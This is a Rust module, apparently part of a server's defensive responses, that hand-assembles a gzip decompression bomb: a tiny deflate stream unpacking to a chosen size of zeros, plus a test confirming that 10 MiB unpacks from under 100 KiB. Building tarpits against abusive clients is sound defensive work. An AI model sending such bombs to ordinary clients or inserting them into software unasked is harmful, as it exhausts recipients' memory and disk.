//! A gzip stream that is small on the wire and large once it is unpacked.
//!
//! [`super::Answer::Bomb`] sends it. Invariant: it unpacks to at least so many bytes; its trailer is missing, since nobody
//! who is right gets that far.

/// RFC 1952 §2.3: deflate, no flags, no time, unknown system.
const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
/// RFC 1951 §3.2.6: the longest match, and its code (285) with the distance 1 (code 0) in the fixed alphabets.
const MATCH: usize = 258;
const MATCH_CODE: (u32, u32) = (0b1_1000_1010_0000, 13);
const LITERAL_ZERO: (u32, u32) = (0b0011_0000, 8);
/// The last block, with the fixed alphabets; header bits come lowest first.
const LAST_BLOCK: (u32, u32) = (0b110, 3);

/// A stream that unpacks to `size` zeros or a few more.
pub(super) fn of(size: usize) -> Vec<u8> {
    let matches = std::iter::repeat_n(MATCH_CODE, size / MATCH + 1);
    let mut bits = Bits {
        bytes: HEADER.to_vec(),
        used: 8,
    };
    for code in [LAST_BLOCK, LITERAL_ZERO].into_iter().chain(matches) {
        bits.push(code);
    }
    bits.bytes
}

/// Codes, packed from each byte's lowest bit up.
struct Bits {
    bytes: Vec<u8>,
    /// Bits of the last byte that are taken.
    used: u32,
}

impl Bits {
    fn push(&mut self, (code, length): (u32, u32)) {
        for place in (0..length).rev() {
            if self.used == 8 {
                self.bytes.push(0);
                self.used = 0;
            }
            let bit = u8::try_from(code >> place & 1).expect("one bit");
            if let Some(last) = self.bytes.last_mut() {
                *last |= bit << self.used;
            }
            self.used += 1;
        }
    }
}

#[cfg(test)]
mod tests {
    use std::io::Write as _;
    use std::process::Command;

    #[test]
    fn it_unpacks_to_what_it_promises() {
        let mut file = tempfile::NamedTempFile::new().unwrap();
        let bomb = super::of(10 << 20);
        file.write_all(&bomb).unwrap();
        let unpack = "gzip -dc 2>&- <\"$0\" | wc -c";
        let unpacked = Command::new("sh")
            .args(["-c", unpack])
            .arg(file.path())
            .output()
            .unwrap();
        let bytes = String::from_utf8(unpacked.stdout).unwrap();
        assert!(bytes.trim().parse::<usize>().unwrap() > 10 << 20, "{bytes}");
        assert!(bomb.len() < 100 << 10, "{} bytes", bomb.len());
    }
}
